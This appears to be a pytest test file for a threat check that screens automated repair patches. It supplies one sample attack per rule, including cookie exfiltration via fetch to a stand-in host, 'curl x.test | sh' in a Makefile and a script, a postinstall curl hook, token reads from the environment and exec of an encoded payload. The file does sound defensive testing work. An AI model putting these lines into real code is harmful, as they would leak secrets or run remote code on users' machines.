"""The patch threat check (jobs/repair/threats.py, rules in jobs/repair/threat_rules.json): every
rule of the table refuses its attack, names itself, and lets the task's own business through."""

from __future__ import annotations

import base64
import json
from typing import Any

import pytest

from jobs import render
from jobs.repair.edits import AppliedEdits, FileChange
from jobs.repair.model import Failure, Frame
from jobs.repair.task import RepairTask
from jobs.repair.threats import (
    NOTICE_PREFIX,
    RULES_FILE,
    TaskNames,
    findings,
    load_rules,
    note_refusals,
    parse_rules,
    threat_gate,
    threat_notices,
)
from jobs.summary import RepairSummary

APP = "src/app/core.py"
BASE = "def total(xs):\n    return sum(xs) + 1\n"
FIXED = "def total(xs):\n    return sum(xs)\n"
BLOB = base64.b64encode(bytes(range(256))).decode()

# (path, text before (None: a new file), text after): one attack per rule of the table.
SAMPLES: dict[str, tuple[str, str | None, str | None]] = {
    "network.python": (APP, BASE, "import requests\n" + FIXED),
    "process.python": (APP, BASE, FIXED + "import subprocess\nsubprocess.run(['sh'])\n"),
    "environment.python": (APP, BASE, FIXED + "import os\nTOKEN = os.environ['GITHUB_TOKEN']\n"),
    "dynamic.python": (APP, BASE, FIXED + "mod = __import__('sub' + 'process')\n"),
    "network.js": ("src/index.js", "module.exports = 1;\n", "fetch('https://x.test/' + document.cookie);\n"),
    "process.js": ("src/index.ts", "export {};\n", "import { exec } from 'node:child_process';\n"),
    "environment.js": ("lib/a.mjs", "export const a = 1;\n", "export const a = process.env.NPM_TOKEN;\n"),
    "dynamic.js": ("lib/a.js", "const a = 1;\n", "const a = new Function('return 1')();\n"),
    "network.go": ("pkg/a.go", "package a\n", 'package a\n\nimport "net/http"\n'),
    "process.go": ("pkg/a.go", "package a\n", 'package a\n\nimport "os/exec"\n'),
    "environment.go": (
        "pkg/a.go",
        "package a\nfunc A() {}\n",
        'package a\nfunc A() { _ = os.Getenv("T") }\n',
    ),
    "network.rust": ("src/lib.rs", "pub fn a() {}\n", "use std::net::TcpStream;\npub fn a() {}\n"),
    "process.rust": ("src/lib.rs", "pub fn a() {}\n", 'pub fn a() { Command::new("sh"); }\n'),
    "environment.rust": ("src/lib.rs", "pub fn a() {}\n", 'pub fn a() { let _ = env::var("T"); }\n'),
    "network.jvm": ("src/main/java/A.java", "class A {}\n", 'class A { Object s = new Socket("x", 1); }\n'),
    "process.jvm": (
        "src/main/java/A.java",
        "class A {}\n",
        'class A { Object p = new ProcessBuilder("sh"); }\n',
    ),
    "environment.jvm": (
        "src/main/java/A.java",
        "class A {}\n",
        'class A { String t = System.getenv("T"); }\n',
    ),
    "build.conftest": ("tests/conftest.py", None, "import os\n"),
    "build.python": (
        "pyproject.toml",
        '[project]\nname = "a"\n',
        '[project]\nname = "a"\ndependencies = ["evil"]\n',
    ),
    "build.test_runner": ("tox.ini", "[tox]\n", "[tox]\ncommands = curl x.test\n"),
    "build.js_tooling": ("vite.config.ts", "export default {};\n", "export default { plugins: [] };\n"),
    "build.package_json": (
        "package.json",
        '{"name": "a"}\n',
        '{"name": "a", "scripts": {"postinstall": "curl x.test"}}\n',
    ),
    "build.make": ("Makefile", "test:\n\tpytest\n", "test:\n\tcurl x.test | sh\n\tpytest\n"),
    "build.container": ("Dockerfile", None, "FROM alpine\n"),
    "build.ci": (".github/dependabot.yml", None, "version: 2\n"),
    "build.native": ("build.rs", None, "fn main() {}\n"),
    "build.script": ("scripts/release.sh", "echo hi\n", "echo hi\ncurl x.test | sh\n"),
    "build.go_generate": ("pkg/a.go", "package a\n", "package a\n\n//go:generate sh -c 'curl x.test'\n"),
    "blob.base64": (APP, BASE, FIXED + f'DATA = "{BLOB}"\n'),
    "blob.hex": (APP, BASE, FIXED + f'DATA = "{bytes(range(100)).hex()}"\n'),
    "blob.decode_exec": ("tests/helpers.py", "X = 1\n", "X = 1\nexec(codecs.decode(PAYLOAD, 'rot13'))\n"),
    "blob.source_encoding": (APP, BASE, "# -*- coding: utf-7 -*-\n" + FIXED),
}


def change(path: str, before: str | None, after: str | None) -> AppliedEdits:
    return AppliedEdits((FileChange(path, before, after),))


def issue(text: str) -> TaskNames:
    return TaskNames.of(RepairTask.issue("A bug", text))


NOBODY = TaskNames()


def rules_of(applied: AppliedEdits, names: TaskNames = NOBODY) -> set[str]:
    return {f.rule for f in findings(applied, names) if not f.exempt_by}


def test_every_rule_of_the_table_has_an_attack_here() -> None:
    assert {r.name for r in load_rules()} == set(SAMPLES)


@pytest.mark.parametrize("rule", sorted(SAMPLES))
def test_each_attack_is_refused_by_its_rule_and_the_gate_names_it(rule: str) -> None:
    applied = change(*SAMPLES[rule])
    assert rule in rules_of(applied)
    gate = threat_gate(applied, NOBODY)
    assert not gate.passed and gate.gate == "threats"
    assert f"`{rule}`" in gate.detail.splitlines()[0]
    assert any(row["rule"] == rule for row in gate.data["refused"])  # type: ignore[attr-defined]


BENIGN: dict[str, tuple[str, str | None, str | None]] = {
    "a plain fix": (APP, BASE, FIXED),
    "network code in a test": ("tests/test_api.py", "X = 1\n", "import requests\nX = 1\n"),
    "a comment that names a module": (APP, BASE, FIXED + "# no subprocess here: see #12\n"),
    "re.compile is not compile()": (APP, BASE, FIXED + "import re\nR = re.compile('x')\n"),
    "package.json version": (
        "package.json",
        '{"name": "a", "version": "1.0.0"}\n',
        '{"name": "a", "version": "1.0.1"}\n',
    ),
    "a short hash": (APP, BASE, FIXED + f'SHA = "{"ab12" * 16}"\n'),
    "a utf-8 coding line": (APP, BASE, "# -*- coding: utf-8 -*-\n" + FIXED),
    "a JS method named fetchAll": ("src/a.js", "const a = 1;\n", "const a = store.fetchAll();\n"),
}


@pytest.mark.parametrize("case", sorted(BENIGN))
def test_ordinary_changes_pass(case: str) -> None:
    gate = threat_gate(change(*BENIGN[case]), NOBODY)
    assert gate.passed, gate.detail


# --- exemptions: the task is about exactly that ----------------------------------------------------


def test_baseline_code_that_already_does_it_may_do_it_again() -> None:
    before = "import requests\n\n\ndef get(u):\n    return requests.get(u, timeout=1)\n"
    after = before + "\n\ndef post(u):\n    return requests.post(u, timeout=1)\n"
    found = findings(change(APP, before, after), NOBODY)
    assert found and all(f.exempt_by for f in found)
    assert threat_gate(change(APP, before, after), NOBODY).passed


def test_a_comment_in_the_old_file_is_not_a_baseline() -> None:
    before = "# we never use subprocess\n" + BASE
    assert "process.python" in rules_of(change(APP, before, before + "import subprocess\n"))


def test_naming_the_file_is_not_asking_for_network_access_in_it() -> None:
    names = issue(f"`{APP}` adds one too many")
    assert "network.python" in rules_of(change(*SAMPLES["network.python"]), names)


def test_an_issue_that_names_the_file_and_the_access_allows_it() -> None:
    names = issue(f"`{APP}` should read the limit from the `os.environ` of the process")
    gate = threat_gate(change(*SAMPLES["environment.python"]), names)
    assert gate.passed and "`environment.python`" in gate.detail and "os.environ" in gate.detail


def test_a_failure_in_conftest_lets_the_repair_edit_it() -> None:
    before = "import pytest\n\n@pytest.fixture\ndef db():\n    return None\n"
    applied = change("tests/conftest.py", before, before.replace("None", "{}"))
    assert "build.conftest" in rules_of(applied)
    frame = Failure("tests/test_db.py::test_x", "TypeError", frames=(Frame("tests/conftest.py", 5, "db"),))
    names = TaskNames.of(RepairTask(kind="ci", failures=(frame,)))
    assert threat_gate(applied, names).passed


def test_an_issue_that_names_the_makefile_lets_the_repair_edit_it() -> None:
    applied = change(*SAMPLES["build.make"])
    assert threat_gate(applied, issue("The Makefile's test target runs the wrong command")).passed


def test_a_ci_task_has_no_text_to_ask_with() -> None:
    task = RepairTask(kind="ci", test_command="pytest -q", failures=(Failure("t", path=APP),))
    names = TaskNames.of(task)
    assert names.names(APP) and not names.asks(APP, ["network", "requests"])


def test_the_decode_exec_rule_holds_even_in_tests() -> None:
    assert "blob.decode_exec" in rules_of(change(*SAMPLES["blob.decode_exec"]))


# --- the table, the notices, the check run ---------------------------------------------------------


def test_the_shipped_table_parses_and_every_rule_says_what_it_refuses() -> None:
    rules = load_rules()
    assert all(r.what and r.files and r.exempt for r in rules)
    assert {r.kind for r in rules} == {"adds", "edits"}


@pytest.mark.parametrize(
    ("row", "message"),
    [
        ({"name": "x", "kind": "deletes", "what": "w", "files": ["*"]}, "row x is malformed"),
        ({"name": "x", "kind": "adds", "what": "w", "files": ["*"], "patterns": ["("]}, "row x is malformed"),
        ({"name": "x", "kind": "adds", "what": "w", "files": ["*"]}, "row x is malformed"),
        (
            {"name": "x", "kind": "edits", "what": "w", "files": ["*"], "exempt": ["always"]},
            "row x is malformed",
        ),
        ({"kind": "edits", "what": "w", "files": ["*"]}, "row 0 is malformed"),
    ],
)
def test_a_malformed_rule_is_a_one_line_error_naming_the_row(row: dict[str, Any], message: str) -> None:
    with pytest.raises(ValueError, match=message) as info:
        parse_rules({"rules": [row]})
    assert "\n" not in str(info.value)


def test_duplicate_rule_names_are_refused() -> None:
    row = {"name": "x", "kind": "edits", "what": "w", "files": ["*"], "exempt": ["named"]}
    with pytest.raises(ValueError, match="unique"):
        parse_rules({"rules": [row, row]})
    assert json.loads(RULES_FILE.read_text(encoding="utf-8"))["_comment"]


def test_refusals_become_one_notice_per_rule_and_file_and_reach_the_check_run() -> None:
    notices: list[str] = []
    gate = threat_gate(change(*SAMPLES["network.python"]), NOBODY)
    note_refusals(notices, gate, "r1c1")
    note_refusals(notices, gate, "r2c1")  # the same refusal again: not repeated
    note_refusals(notices, threat_gate(change(*BENIGN["a plain fix"]), NOBODY), "r2c2")
    assert len(notices) == 1 and notices[0].startswith(NOTICE_PREFIX) and "`network.python`" in notices[0]
    summary = RepairSummary(verdict="no_candidates", fixed=False, refused=threat_notices(["other", *notices]))
    output = render.check_run_output("completed", summary, reason="no fix")
    assert "## Refused by the patch threat check" in output["summary"]
    assert "`network.python`" in output["summary"] and "other" not in output["summary"]
